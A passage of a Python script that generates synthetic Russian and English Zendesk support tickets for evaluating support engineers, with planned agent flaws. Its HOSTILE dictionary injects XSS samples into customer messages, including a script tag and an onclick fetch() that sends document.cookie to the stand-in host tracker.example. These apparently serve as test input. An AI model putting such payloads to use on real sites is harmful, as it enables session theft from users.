# ---------------------------------------------------------------------------------------

FEMALE_ENGINEERS = {"a.smirnova", "e.volkova", "m.sokolova", "n.pavlova", "s.collins", "y.popova"}

FEM_VERBS = {}   # filled below from a word list: masculine -> feminine


def _fem_init():
    words = """
    проверил посмотрел нашёл восстановил вернул поправил удалил отправил оформил сделал понял
    ошибся заменил открыл выдал включил посоветовал предложил объяснил ответил рассказал
    разобрал разобрался дал показал уточнил ограничился начал приступил запросил попросил
    перезапустил подал сообщил пообещал обещал обещала выяснил дождался идентифицировал
    спросил перебил назвал озвучил подтвердил отправил поддался сравнил связал получил
    загрузил напомнил увидел ушёл описал сменил перезагрузил продиктовал разъяснил
    рекомендовал перевёл переименовал прописал поменял перенёс подключил вошёл смотрел
    создал оплатил звонил пробовал нажал вышел решил подумал сохранил почистил
    выполнил обновил сбросил отключил закрыл забыл отправлял перепутал учёл привёл
    проверял предупредил зафиксировал дал очистил ограничил продлил подсказал поднял
    представился провёл сказал согласовал списал успел объяснял настроил приложил снизил
    видел добавил запустил исправил купил менял написал перезагружал покупал потерял""".split()
    special = {"нашёл": "нашла", "ошибся": "ошиблась", "разобрался": "разобралась",
               "ограничился": "ограничилась", "дождался": "дождалась", "поддался": "поддалась",
               "ушёл": "ушла", "перевёл": "перевела", "перенёс": "перенесла", "вошёл": "вошла",
               "учёл": "учла", "привёл": "привела", "вышел": "вышла",
               "провёл": "провела", "представился": "представилась"}
    for w in words:
        if w.endswith("а"):
            continue
        FEM_VERBS[w] = special.get(w, w + "а")


_fem_init()
# not after "клиент ": trainer comments also mention what the customer did
FEM_RE = re.compile(r"(?<!лиент )\b(" + "|".join(sorted(FEM_VERBS, key=len, reverse=True)) + r")\b", re.IGNORECASE)


def feminize(text):
    def rep(m):
        w = m.group(0)
        f = FEM_VERBS[w.lower()]
        return f[0].upper() + f[1:] if w[0].isupper() else f
    return FEM_RE.sub(rep, text)


def feminize_paras(paras):
    return map_text(paras, feminize)


# ---------------------------------------------------------------------------------------
# Planning: who gets which ticket, when, with which scenario and flaws
# ---------------------------------------------------------------------------------------

TEAM_COUNTS = {"first-line": 42, "second-line": 35, "calls": 21, "chats": 31, "paid-services": 21}
EN_SHARE = {"first-line": 0.33, "second-line": 0.31, "calls": 0.10, "chats": 0.42, "paid-services": 0.24}
ESCALATED_SHARE = 0.9          # share of tickets of escalation-type L2 scenarios that came via L1

# minor flaws: team -> [(flag, weight, scenario field it needs or None)]
MINOR_FLAGS = {
    "first-line": [("thin", 3, "thin"), ("misread", 1.5, "misread"), ("no_workaround", 2, "wa"),
                   ("unverified", 1.5, "unv_fail"), ("slow", 2, None), ("typos", 2.5, None),
                   ("curt", 1.5, None), ("bad_tags", 1.5, None), ("bad_note", 1.2, "consult")],
    "second-line": [("shallow", 3, "shallow"), ("no_workaround", 1.5, "wa"), ("unverified", 1.5, "unv_fail"),
                    ("slow", 2, None), ("typos", 2, None)],
    "calls": [("misread", 1.5, "d:misread"), ("interrupt", 1.5, "d:interrupt"), ("no_greeting", 2, None),
              ("no_summary", 2, None), ("no_followup", 2, "followup"), ("typos", 1.2, None)],
    "chats": [("slow_chat", 3, None), ("thin", 2.5, "t:thin"), ("misread", 2, "t:misread"),
              ("no_closing", 2.5, None), ("typos", 2, None), ("curt", 1.5, None)],
    "paid-services": [("pwd_plain", 1.5, "access_bad"), ("report_thin", 2, None), ("unverified", 2, "unv_fail"),
                      ("slow", 1.5, None), ("typos", 1.5, None)],
}


def scenario_supports(sc, need):
    if need is None:
        return True
    if need.startswith("d:"):
        return any(len(l) > 2 and l[2].lstrip("!") == need[2:] for l in sc.get("dialog", []))
    if need.startswith("t:"):
        return any(len(t) > 2 and t[2].lstrip("!") == need[2:] for t in sc.get("turns", []))
    return bool(sc.get(need))


def poisson(rng, lam):
    limit, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rng.random()
        if p <= limit:
            return k
        k += 1


def pick_minor_flags(rng, team, sc, lam, consult, excellent=False):
    options = [(f, w) for f, w, need in MINOR_FLAGS[team]
               if scenario_supports(sc, need) and (f != "bad_note" or consult)]
    if excellent:       # the team's best engineer slips only on small things
        options = [(f, w) for f, w in options if f in ("typos", "slow", "no_workaround", "bad_tags")]
    n = min(poisson(rng, lam), len(options))
    flags = set()
    while len(flags) < n:
        total = sum(w for f, w in options if f not in flags)
        x = rng.random() * total
        for f, w in options:
            if f in flags:
                continue
            x -= w
            if x <= 0:
                flags.add(f)
                break
    return flags


def plan_tickets(rng, customers, flag_seed):
    engineers = {p["email"]: p for p, _ in ENGINEERS}
    quality = {login_of(p["email"]): q for p, q in ENGINEERS}
    team_members = {t["id"]: [login_of(p["email"]) for p, _ in ENGINEERS if t["id"] in p["teams"]]
                    for t in TEAMS}
    # creation times: evenly spread over the window, nudged into working hours
    n = sum(TEAM_COUNTS.values())
    span = (WINDOW_END - WINDOW_START).total_seconds()
    times = []
    for i in range(n):
        t = WINDOW_START + dt.timedelta(seconds=span * (i + rng.uniform(0.1, 0.9)) / n)
        if not (4 <= t.hour <= 18) and rng.random() < 0.75:
            t = t.replace(hour=rng.randint(5, 17))
        t = min(max(t, WINDOW_START + dt.timedelta(minutes=5)), WINDOW_END - dt.timedelta(minutes=1))
        times.append(t.replace(microsecond=0))
    times.sort()
    teams = [t for t, c in TEAM_COUNTS.items() for _ in range(c)]
    rng.shuffle(teams)
    # an exact number of English tickets per team, spread at random
    english = set()
    for team, count in TEAM_COUNTS.items():
        pos = [i for i, t in enumerate(teams) if t == team]
        english |= set(rng.sample(pos, round(count * EN_SHARE[team])))

    by_team_lang = {}
    for sc in SCENARIOS:
        by_team_lang.setdefault((sc["team"], sc["lang"]), []).append(sc)
    usage = {sc["key"]: 0 for sc in SCENARIOS}
    load = {l: 0 for l in quality}
    ru_customers = [i for i, c in enumerate(customers) if c["lang"] == "ru"]
    en_customers = [i for i, c in enumerate(customers) if c["lang"] == "en"]
    cust_use = {i: 0 for i in range(len(customers))}
    # engineers with more planned evaluations get a little more work
    want = {l: 1.0 + EVAL_COUNT[l] / 7.0 for l in quality}

    plans = []
    for idx, (created, team) in enumerate(zip(times, teams)):
        lang = "en" if idx in english else "ru"
        pool = by_team_lang[(team, lang)]
        low = min(usage[s["key"]] for s in pool)
        sc = rng.choice([s for s in pool if usage[s["key"]] <= low])
        variant = usage[sc["key"]]
        usage[sc["key"]] += 1
        members = team_members[team]

        def score(l):
            en_bias = 0
            eng_lang = engineers[f"{l}@{EMAIL_DOMAIN}"]["language"]
            if lang == "en" and eng_lang == "en":
                en_bias = -1.2
            if lang == "ru" and eng_lang == "en":
                en_bias = +1.0
            return load[l] / want[l] + en_bias + rng.random() * 0.3
        if lang == "ru":       # the English-speaking engineers take English tickets only
            members = [l for l in members if engineers[f"{l}@{EMAIL_DOMAIN}"]["language"] == "ru"]
        eng = min(members, key=score)
        load[eng] += 1
        cpool = en_customers if lang == "en" else ru_customers
        lowc = min(cust_use[i] for i in cpool)
        cust = rng.choice([i for i in cpool if cust_use[i] <= lowc + (1 if rng.random() < 0.3 else 0)])
        cust_use[cust] += 1
        if team == "calls":
            channel = "voice"
        elif team == "chats":
            channel = "chat"
        else:
            channel = "email" if rng.random() < 0.68 else "web"
        frng = Random(flag_seed + idx)
        consult = team == "first-line" and bool(sc.get("consult")) and frng.random() < 0.18
        flags = pick_minor_flags(frng, team, sc, quality[eng], consult, excellent=eng == EXCELLENT)
        if consult:
            flags.add("consult")
        if "curt" in flags and quality[eng] > 2 and frng.random() < 0.5:
            flags.add("rude")
        esc = bool(sc.get("esc")) and frng.random() < ESCALATED_SHARE
        l1_pool = [l for l in team_members["first-line"]
                   if lang == "en" or engineers[f"{l}@{EMAIL_DOMAIN}"]["language"] == "ru"]
        l1 = frng.choice(l1_pool) if esc else None
        if esc and quality[l1] > 2 and frng.random() < 0.6:
            flags.add("l1_bad_note")        # the weak first-liner hands over with "see ticket"
        plans.append({
            "idx": idx, "created": created, "team": team, "lang": lang, "sc": sc, "eng": eng,
            "cust": cust, "channel": channel, "flags": flags, "esc": esc,
            "l1": l1,
            "l2": frng.choice(team_members["second-line"]) if consult else None,
            "solved": True, "hostile": None, "variant": variant,
        })
    return plans


def choose_unsolved(rng, plans):
    """~15% open/pending: most of the last days' tickets plus a few stuck older ones."""
    recent = NOW - dt.timedelta(days=3, hours=12)
    for p in plans:
        if p["team"] == "chats":
            continue
        if p["created"] >= recent and rng.random() < 0.8:
            p["solved"] = False
    target = round(0.15 * len(plans))
    older = [p for p in plans if p["solved"] and p["team"] != "chats"
             and NOW - dt.timedelta(days=28) < p["created"] < recent]
    rng.shuffle(older)
    per_eng = {}
    for p in plans:
        if p["solved"]:
            per_eng[p["eng"]] = per_eng.get(p["eng"], 0) + 1
    for p in older:
        if sum(1 for q in plans if not q["solved"]) >= target:
            break
        if per_eng[p["eng"]] > EVAL_COUNT[p["eng"]] + 1:
            p["solved"] = False
            per_eng[p["eng"]] -= 1


def choose_evaluated(rng, plans):
    """Pick each engineer's evaluated tickets spread over the period; put planned critical
    fails and the calibration's disputed answer on them."""
    last_ok = EVAL_LIMIT - dt.timedelta(days=4)
    chosen = {}
    for login, count in EVAL_COUNT.items():
        mine = sorted([p for p in plans if p["eng"] == login and p["solved"] and p["created"] < last_ok
                       and not p.get("hostile")], key=lambda p: p["created"])
        if len(mine) < count:
            raise SystemExit(f"plan: {login} has only {len(mine)} solved tickets for {count} evaluations")
        step = len(mine) / count
        picks = [mine[min(len(mine) - 1, int(step * i + rng.uniform(0, step)))] for i in range(count)]
        # de-duplicate while keeping the spread
        seen, out = set(), []
        for p in picks:
            if p["idx"] in seen:
                p = next(q for q in mine if q["idx"] not in seen)
            seen.add(p["idx"])
            out.append(p)
        chosen[login] = out
    for login, flag in CRITICAL_PLAN.items():
        cands = [p for p in chosen[login] if critical_supported(p["sc"], flag)]
        p = cands[len(cands) // 2]
        p["flags"].add(flag)
        if flag == "wrong":
            p["flags"] -= {"thin", "misread", "unverified"}
    for login in CALIBRATION_PLAN:
        cands = [p for p in chosen[login] if CRITICAL_PLAN.get(login) is None or CRITICAL_PLAN[login] not in p["flags"]]
        p = cands[-2]
        p["calibrate"] = True
        if p["team"] == "calls":
            p["flags"].add("ident_partial")
    return chosen


def critical_supported(sc, flag):
    if flag == "wrong":
        return bool(sc.get("wrong") or sc.get("wrong_add"))
    if flag == "no_backup":
        return sc["kind"] == "paid" and "backup" not in sc["na"]
    if flag == "no_ident":
        return sc["kind"] == "call"
    return False

# ---------------------------------------------------------------------------------------
# Conversation builders
# ---------------------------------------------------------------------------------------

AGENT_ROLES = {"e", "n", "l1", "l1n", "l2n"}
NOTE_ROLES = {"n", "l1n", "l2n"}


def pick(rng, alts):
    return rng.choice(alts)


def U(rng, a, b):
    return rng.uniform(a, b)


class Conversation:
    """Collects the messages of one ticket before they get authors, times and ids."""

    def __init__(self, plan, ctx, rng):
        self.plan, self.sc, self.ctx, self.rng = plan, plan["sc"], ctx, rng
        self.lang = plan["lang"]
        self.ph = PH[self.lang]
        self.flags = plan["flags"]
        self.msgs = []
        self.seen_public = set()
        self.typos_found = []
        self.typo_budget = 2 if "typos" in self.flags else 0
        self.first_agent_done = False
        self.meta = {}          # facts for the evaluation (first-reply delay, chat gaps, ...)
        self.wrap_default = self.sc["kind"] in ("email", "paid")

    # -- helpers --------------------------------------------------------------------
    def author_login(self, role):
        return {"e": self.plan["eng"], "n": self.plan["eng"], "l1": self.plan["l1"],
                "l1n": self.plan["l1"], "l2n": self.plan["l2"]}.get(role)

    def wrap_email(self, role, paras):
        ph, rng = self.ph, self.rng
        first = role not in self.seen_public
        self.seen_public.add(role)
        if role == "c":
            if first:
                g, s = pick(rng, ph["c_greet"]), pick(rng, ph["c_sign"])
            else:
                g = None if rng.random() < 0.7 else pick(rng, ph["c_greet"])
                s = "{cfirst}" if rng.random() < 0.5 else None
        elif role == "e" and "curt" in self.flags:
            g, s = pick(rng, ph["curt_greet"]), pick(rng, ph["curt_sign"])
        else:
            g = pick(rng, ph["e_greet1"] if first else ph["e_greet2"])
            s = pick(rng, ph["e_sign1"] if first else ph["e_sign2"])
        return ([g] if g else []) + list(paras) + ([s] if s else [])

    def add(self, role, paras, delay=None, attach=None, wrap=None, via=None, hostile=None, nofem=False):
        paras = list(paras)
        if wrap is None:
            wrap = self.wrap_default and role not in NOTE_ROLES
        if role == "e" and self.typo_budget > 0:
            before = len(self.typos_found)
            paras = inject_typos(paras, self.lang, self.rng, self.typos_found, limit=self.typo_budget)
            self.typo_budget -= len(self.typos_found) - before
        if wrap:
            paras = self.wrap_email(role, paras)
        if role in ("e", "l1") and not self.first_agent_done:
            self.first_agent_done = True
        self.msgs.append({"role": role, "paras": paras, "delay": delay, "attach": attach,
                          "via": via, "hostile": hostile, "nofem": nofem})

    def vpick(self, alts):
        """The scenario's n-th use takes the n-th variant (openings, subjects)."""
        return alts[(self.plan["variant"] + self.sc["offset"]) % len(alts)]

    def attach_maybe(self, spec, p):
        if spec and self.rng.random() < p:
            return list(spec)
        return None

    def tail(self, items):
        ph, rng = self.ph, self.rng
        for item in items:
            who, alts = item[0], item[1]
            attach = list(item[2]) if len(item) > 2 and item[2] else None
            delay = U(rng, *item[3]) if len(item) > 3 else None
            optional = who.endswith("?")
            who = who.rstrip("?")
            if optional and rng.random() < (0.45 if who == "e" else 0.6):
                continue
            if alts is None:
                alts = ph["confirm"] if who == "c" else ph["close"]
            self.add(who, pick(rng, alts), attach=attach, delay=delay)


def first_delay(rng, team, slow, priority="normal"):
    if team == "first-line":
        return U(rng, 420, 1100) if slow else U(rng, 12, 105)
    if team == "second-line" and priority == "urgent":        # an outage: one hour
        return U(rng, 150, 420) if slow else U(rng, 10, 50)
    if team == "second-line":
        return U(rng, 1500, 2400) if slow else U(rng, 25, 300)
    if team == "paid-services":
        return U(rng, 40, 230)
    return U(rng, 2, 9)


def build_email(cv):
    sc, f, rng, ph, team = cv.sc, cv.flags, cv.rng, cv.ph, cv.plan["team"]
    cv.add("c", cv.vpick(sc["open"]), attach=cv.attach_maybe(sc.get("attach_c"), 0.6),
           hostile=cv.plan["hostile"])
    if cv.plan["esc"]:
        cv.add("l1", sc["l1_reply"], delay=U(rng, 10, 70))
        cv.add("l1n", pick(rng, ph["bad_note"]) if "l1_bad_note" in f else sc["l1_note"], delay=U(rng, 1, 8))
    slow = "slow" in f
    d_first = first_delay(rng, team, slow, sc["priority"])
    if slow:
        nudge_at = d_first * U(rng, 0.45, 0.7)
        cv.add("c", pick(rng, ph["nudge"]), delay=nudge_at)
        d_first -= nudge_at
    if "consult" in f:
        ask = pick(rng, ph["consult_bad"]) if "bad_note" in f else sc["consult"][0]
        cv.add("n", ask, delay=d_first * 0.3)
        cv.add("l2n", sc["consult"][1], delay=d_first * 0.5)
        d_first *= 0.2
    want_note = bool(sc.get("note")) and (
        (team == "second-line" and rng.random() < (0.6 if QUALITY[cv.plan["eng"]] < 0.5 else 0.25)) or (team == "first-line" and "consult" not in f and rng.random() < 0.05))
    cv.meta["own_note"] = want_note
    if want_note:
        cv.add("n", sc["note"], delay=d_first * 0.7)
        d_first *= 0.3

    full = list(sc["reply"])
    if sc.get("wa") and "no_workaround" not in f:
        full += sc["wa"]
    if "wrong" in f and sc.get("wrong_add"):
        full += sc["wrong_add"]
    attach_e = sc.get("attach_e")
    lead, rude = [], []
    two_rounds = not ("wrong" in f and sc.get("wrong")) and any(x in f for x in ("thin", "misread", "shallow"))
    if "rude" in f:
        # a reproach in the second answer ("I already wrote...") or in the first ("read the docs")
        phrase = ph["rude"][0] if two_rounds else ph["rude"][1]
        cv.meta["rude"] = phrase
        if two_rounds:
            rude = [phrase]
        else:
            lead = [phrase]
    elif "curt" in f:
        lead = [pick(rng, ph["curt_prefix"])]
    wrong_tail = None
    if "wrong" in f and sc.get("wrong"):
        cv.add("e", lead + sc["wrong"], delay=d_first)
        if sc.get("wrong_c"):
            cv.add("c", sc["wrong_c"])
            cv.add("e", sc["wrong_fix"] + full, attach=attach_e)
        else:
            wrong_tail = sc.get("wrong_tail")
    elif "thin" in f:
        cv.add("e", lead + sc["thin"], delay=d_first)
        cv.add("c", sc["ask"])
        cv.add("e", rude + [pick(rng, ph["fix_prefix"])] + full, attach=attach_e)
    elif "misread" in f:
        cv.add("e", lead + sc["misread"], delay=d_first)
        cv.add("c", sc["ask_mis"])
        cv.add("e", rude + [pick(rng, ph["mis_prefix"])] + full, attach=attach_e)
    elif "shallow" in f:
        cv.add("e", lead + sc["shallow"], delay=d_first)
        cv.add("c", sc["ask_shallow"])
        cv.add("e", rude + full, attach=attach_e)
    else:
        cv.add("e", lead + full, delay=d_first, attach=attach_e)
    if "unverified" in f:
        cv.add("c", sc["unv_fail"])
        cv.add("e", sc["unv_fix"])
    cv.tail(wrong_tail or sc["tail"])


PAID_TEXT = {
    "ru": {"late_cost": "Стоимость посчитаем по факту выполненных работ, счёт выставим после завершения.",
           "nudge": ["По срокам работы уже должны были закончиться. Есть новости?"]},
    "en": {"late_cost": "We'll calculate the cost from the actual work and invoice you afterwards.",
           "nudge": ["Hi, the work should have been finished by now. Any news?"]},
}


def build_paid(cv):
    sc, f, rng, team = cv.sc, cv.flags, cv.rng, cv.plan["team"]
    pt = PAID_TEXT[cv.lang]
    cv.add("c", cv.vpick(sc["open"]))
    access = sc["access_bad"] if "pwd_plain" in f else sc["access_ok"]
    if "no_quote" in f:
        cv.add("e", sc["no_quote_reply"] + access, delay=first_delay(rng, team, False))
        cv.add("c", sc["agree_noquote"])
        cv.add("e", [pt["late_cost"]], delay=U(rng, 20, 120))
    else:
        cv.add("e", sc["quote"] + access, delay=first_delay(rng, team, False))
        cv.add("c", sc["agree_plain"] if "pwd_plain" in f else sc["agree"],
               attach=list(sc["agree_attach"]) if sc.get("agree_attach") else None)
    note = "no_backup" in f or rng.random() < 0.3
    if "slow" in f:
        cv.add("c", pt["nudge"], delay=U(rng, 2800, 3600))
    if note:
        cv.add("n", sc["work_note_nb"] if "no_backup" in f else sc["work_note"],
               delay=U(rng, 60, 400) if "slow" in f else U(rng, 240, 1500))
    if "report_thin" in f:
        report = sc["report_thin"]
    elif "no_backup" in f:
        report = sc.get("report_nb", sc["report"])
    else:
        report = list(sc["report"])
        if not note and sc.get("backup_line"):
            report = report[:-1] + sc["backup_line"] + report[-1:]
    rep_attach = [sc["attach_report"]] if sc.get("attach_report") else None
    cv.add("e", report, delay=U(rng, 90, 900) if note else U(rng, 600, 2400), attach=rep_attach)
    if "unverified" in f:
        cv.add("c", sc["unv_fail"])
        cv.add("e", sc["unv_fix"])
    cv.tail(sc["tail"])


def cond_ok(cond, flags):
    if cond is None:
        return True
    if cond.startswith("!"):
        return cond[1:] not in flags
    return cond in flags


def build_chat(cv):
    sc, f, rng, ph = cv.sc, cv.flags, cv.rng, cv.ph
    cv.add("c", [cv.vpick(sc["open"])], delay=0)
    hello = pick(rng, ph["chat_hello_curt"] if "curt" in f else ph["chat_hello"])
    merge_hello = "curt" not in f and rng.random() < 0.5     # greeting and first answer in one message
    if not merge_hello:
        cv.add("e", [hello], delay=U(rng, 0.2, 1.4))
    turns = [t for t in sc["turns"] if cond_ok(t[2] if len(t) > 2 else None, f)]
    e_positions = [i for i, t in enumerate(turns) if t[0] == "e"]
    slow_at = rng.choice(e_positions[1:] or e_positions) if "slow_chat" in f else None
    for i, t in enumerate(turns):
        who, text = t[0], t[1]
        if merge_hello and who == "e":
            text, merge_hello = hello + " " + text, False
        if i == slow_at:
            cv.add("c", [pick(rng, ph["chat_where"])], delay=U(rng, 3, 5))
            cv.add("e", [text], delay=U(rng, 5, 10))
        elif who == "e":
            cv.add("e", [text], delay=U(rng, 0.3, 1.8))
        else:
            cv.add("c", [text], delay=U(rng, 0.3, 2.2))
    if "no_closing" in f:
        if rng.random() < 0.5:
            cv.add("c", [pick(rng, ph["chat_end_noclose"])], delay=U(rng, 0.3, 1.5))
    else:
        cv.add("e", [pick(rng, ph["chat_close_q"])], delay=U(rng, 0.3, 1.2))
        cv.add("c", [pick(rng, ph["chat_close_a"])], delay=U(rng, 0.2, 1.5))
        if rng.random() < 0.6:
            cv.add("e", [pick(rng, ph["chat_bye"])], delay=U(rng, 0.2, 0.8))


IDENT_NOTE = {
    "ru": {"full": "договор {acc}, идентификация по контрольному слову",
           "part": "договор {acc}, идентификация только по номеру договора", "none": "договор {acc} со слов клиента"},
    "en": {"full": "contract {acc}, verified with the security word",
           "part": "contract {acc}, contract number only", "none": "contract {acc} as stated by the caller"},
}


def build_call(cv):
    sc, f, rng, ph, ctx = cv.sc, cv.flags, cv.rng, cv.ph, cv.ctx
    A, Cc = ph["call_agent"], ph["call_cust"]
    ru = cv.lang == "ru"
    eng_f = ru and cv.plan["eng"] in FEMALE_ENGINEERS
    cust_f = ru and ctx.get("cust_female")
    lines = [f"{A}: " + (ph["call_hello_bad"] if "no_greeting" in f else ph["call_hello"])]
    for l in sc["dialog"]:
        if l[0] == "IDENT":
            if "no_ident" in f:
                continue
            if "ident_partial" in f:
                lines += [f"{A}: {ph['ident_q_part']}", f"{Cc}: {ph['ident_a_part']}", f"{A}: {ph['ident_ok_part']}"]
            else:
                lines += [f"{A}: {ph['ident_q']}", f"{Cc}: {ph['ident_a']}", f"{A}: {ph['ident_ok']}"]
            continue
        if not cond_ok(l[2] if len(l) > 2 else None, f):
            continue
        text = cv.vpick(l[1]) if isinstance(l[1], list) else l[1]
        if (l[0] == "A" and eng_f) or (l[0] == "C" and cust_f):
            text = feminize(text)
        lines.append(f"{A if l[0] == 'A' else Cc}: {text}")
    secs = sum(rng.randint(14, 38) for _ in lines)
    ctx["dur"] = ph["dur"].format(m=secs // 60, s=secs % 60)
    kind = "none" if "no_ident" in f else "part" if "ident_partial" in f else "full"
    ctx["ident_note"] = fill(IDENT_NOTE[cv.lang][kind], ctx)
    cv.add("c", [ph["call_head"], "\n".join(lines)], delay=0, via="voice", nofem=True)
    head = f"**{ph['summary_head']}.**"
    body = sc["summary_thin"] if "no_summary" in f else \
        list(sc["summary"]) + (sc.get("summary_follow", []) if "no_followup" not in f else [])
    cv.add("e", [head] + list(body), delay=secs / 60 + U(rng, 2, 9), wrap=False)
    cv.wrap_default = True          # what follows the call goes by e-mail
    if sc.get("followup") and "no_followup" not in f:
        cv.add("e", sc["followup"], delay=U(rng, 3, 25), attach=sc.get("attach_e"))
        cv.tail(sc["tail"])          # the customer answers the letter


BUILDERS = {"email": build_email, "paid": build_paid, "chat": build_chat, "call": build_call}

# ---------------------------------------------------------------------------------------
# Rendering a plan into a Zendesk ticket
# ---------------------------------------------------------------------------------------

HOSTILE = {
    "ru": ('<p>В коде главной страницы нашли вот такую вставку (копируем как есть):</p>'
           '<div onclick="window.location=\'https://casino.example/?ref=77\'">Вы выиграли! Нажмите, чтобы забрать приз</div>'
           '<script>alert(1)</script><img src="https://tracker.example/pixel.gif" width="1" height="1">',
           "В коде главной страницы нашли вот такую вставку (копируем как есть):\n\nВы выиграли! Нажмите, чтобы забрать приз"),
    "en": ('<p>--<br><b>{cname}</b> | {site}<br>'
           '<a href="https://{site}/" onclick="fetch(\'https://tracker.example/c?\'+document.cookie)">{site}</a></p>'
           '<img src="https://tracker.example/pixel.gif" alt="" width="1" height="1"><script>alert(1)</script>',
           "--\n{cname} | {site}\n{site}"),
}

SAT = {
    "ru": {"good": ["Спасибо, быстро и понятно!", "Отличная поддержка.", "Всё объяснили по шагам, спасибо.", "",
                    "Оперативно решили проблему.", "Спасибо инженеру, очень помог."],
           "bad": {"slow": "Ответа ждал полдня.", "thin": "Первый ответ — отписка, пришлось переспрашивать.",
                   "wrong": "Из-за неверного совета стало только хуже.", "curt": "Отвечают сухо и свысока.",
                   "rude": "Грубый ответ, неприятно.", "shallow": "Сначала просто перезапустили, причину пришлось выпытывать.",
                   "slow_chat": "Долго ждал ответа в чате.", "no_quote": "Цену назвали уже после работ.",
                   "slow_paid": "Работы закончили позже обещанного, пришлось напоминать.",
                   "misread": "Не сразу поняли, что мне нужно.", "unverified": "Пришлось писать повторно — не проверили.",
                   None: "Долго и непонятно."}},
    "en": {"good": ["Quick and clear, thanks!", "Great support.", "", "Very helpful, explained everything.",
                    "Solved fast, thank you."],
           "bad": {"slow": "Waited way too long for a reply.", "thin": "First answer was useless, had to ask again.",
                   "wrong": "The advice made things worse.", "curt": "Unfriendly replies.", "rude": "Rude reply.",
                   "shallow": "Took two rounds to get a real answer.", "slow_chat": "Slow responses in chat.",
                   "no_quote": "Price was only mentioned after the work.", "misread": "They didn't read my question.",
                   "slow_paid": "The work took longer than promised.",
                   "unverified": "Had to come back because it wasn't fixed.", None: "Not great."}},
}
BAD_FLAGS = ["wrong", "rude", "slow", "slow_chat", "thin", "shallow", "no_quote", "unverified", "curt", "misread"]


class Ids:
    def __init__(self):
        self.comment = 900000
        self.attachment = 7000000

    def next_comment(self):
        self.comment += 1
        return self.comment

    def next_attachment(self):
        self.attachment += 1
        return self.attachment


def make_attachment(rng, ids, spec, ctx):
    name, ctype, (lo, hi) = spec
    name = fill(name, ctx)
    token = "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(25))
    return {"id": ids.next_attachment(), "file_name": name,
            "content_url": f"https://demo.zendesk.example/attachments/token/{token}/?name={name}",
            "content_type": ctype, "size": rng.randint(lo, hi)}


def default_delay(rng, team, prev_role, role):
    if role in NOTE_ROLES:
        return U(rng, 3, 35)
    if team == "chats":
        return U(rng, 0.3, 2.0)
    if role == "c":
        return U(rng, 20, 600) if rng.random() < 0.85 else U(rng, 900, 1500)
    if prev_role in NOTE_ROLES:
        return U(rng, 3, 30)
    return {"first-line": U(rng, 15, 150), "second-line": U(rng, 30, 420),
            "paid-services": U(rng, 30, 300), "calls": U(rng, 30, 300)}[team]


MONTHS_RU = ["январь", "февраль", "март", "апрель", "май", "июнь", "июль", "август", "сентябрь",
             "октябрь", "ноябрь", "декабрь"]


def make_ctx(plan, customer, people):
    c = customer
    created = plan["created"] + dt.timedelta(hours=3)      # dates in texts are Moscow dates
    ctx = {
        "dom": c["site"], "site": c["site"], "cname": c["name"], "cfirst": c["first"], "cemail": c["email"],
        "acc": c["acc"], "acc_l": c["acc_l"], "ip": c["ip"], "ip2": c["ip2"], "gw": "203.0.113.1",
        "srv": c["ds"] if "dedicated" in plan["sc"]["tags"] else c["vps"], "phone": c["phone"],
        "mbox": c["mbox"], "n": plan["n"], "cust_female": c["female"],
        "date": created.strftime("%d.%m.%Y"),
        "date_before": (created - dt.timedelta(days=2)).strftime("%d.%m.%Y"),
        "date_before2": (created - dt.timedelta(days=9)).strftime("%d.%m.%Y"),
        "date_next": created.replace(year=created.year + 1).strftime("%d.%m.%Y"),
    }
    first = created.replace(day=1)
    prev_end = first - dt.timedelta(days=1)
    before = prev_end.replace(day=1) - dt.timedelta(days=1)
    ctx["prev_month_end"] = prev_end.strftime("%d.%m.%Y")
    ctx["prev_months"] = f"{MONTHS_RU[before.month - 1]}–{MONTHS_RU[prev_end.month - 1]}"
    return ctx


def render_ticket(rng, plan, customer, people, user_ids, ids):
    ctx = make_ctx(plan, customer, people)
    ctx["ename"] = display_name(plan["eng"], people[plan["eng"]], plan["lang"])
    ctx["efirst"] = ctx["ename"].split()[0]
    cv = Conversation(plan, ctx, rng)
    BUILDERS[plan["sc"]["kind"]](cv)
    team = plan["team"]

    # times
    offsets, t, prev = [], 0.0, None
    for i, m in enumerate(cv.msgs):
        d = 0.0 if i == 0 else (m["delay"] if m["delay"] is not None else default_delay(rng, team, prev, m["role"]))
        t += max(d, 0.15)
        offsets.append(t)
        prev = m["role"]
    msgs = cv.msgs
    if not plan["solved"]:
        k = rng.randint(2, max(2, min(len(msgs) - 1, 5)))
        while k > 2 and msgs[k - 1]["role"] in NOTE_ROLES and msgs[k - 1]["role"] != "l1n":
            k -= 1
        if plan["created"] >= NOW - dt.timedelta(days=14) and rng.random() < 0.6:
            # a fresh ticket: the customer wrote last and waits for us (open)
            ends = [i + 1 for i, m in enumerate(msgs[:-1]) if m["role"] == "c" and i >= 1]
            if ends:
                k = rng.choice(ends)
        elif plan["created"] < NOW - dt.timedelta(days=12):
            # an old unsolved ticket waits for the customer (pending), not for us
            ends = [i + 1 for i, m in enumerate(msgs[:-1]) if m["role"] in ("e", "l1") and i >= 1]
            if ends:
                k = rng.choice(ends)
        msgs, offsets = msgs[:k], offsets[:k]
    limit = (NOW - plan["created"]).total_seconds() / 60 - (150 if plan["solved"] else 30)
    if offsets[-1] > limit:
        factor = max(limit, 10) / offsets[-1]
        offsets = [o * factor for o in offsets]

    # comments
    comments = []
    for m, off in zip(msgs, offsets):
        role = m["role"]
        if role == "c":
            author = user_ids["cust"][plan["cust"]]
            female = customer["female"]
            actx = ctx
        else:
            login = cv.author_login(role)
            author = user_ids["agent"][login]
            female = login in FEMALE_ENGINEERS
            person = people[login]
            name = display_name(login, person, plan["lang"])
            actx = dict(ctx, ename=name, efirst=name.split()[0])
        paras = fill_paras(m["paras"], actx)
        if female and plan["lang"] == "ru" and not m["nofem"]:
            paras = feminize_paras(paras)
        html_body, plain = to_html(paras), to_plain(paras)
        if m["hostile"]:
            h_html, h_plain = (fill(x, ctx) for x in HOSTILE[m["hostile"]])
            if m["hostile"] == "ru" and len(paras) > 1:
                html_body = to_html(paras[:-1]) + h_html + to_html(paras[-1:])
                plain = to_plain(paras[:-1]) + "\n\n" + h_plain + "\n\n" + to_plain(paras[-1:])
            else:
                html_body += h_html
                plain += "\n\n" + h_plain
        if plan["channel"] == "chat":
            via = "chat"
        elif m["via"] == "voice":
            via = "voice"
        elif role == "c":
            via = plan["channel"] if plan["channel"] in ("email", "web") and not comments else "email"
            if plan["channel"] == "web" and comments:
                via = "web"
        else:
            via = "web"
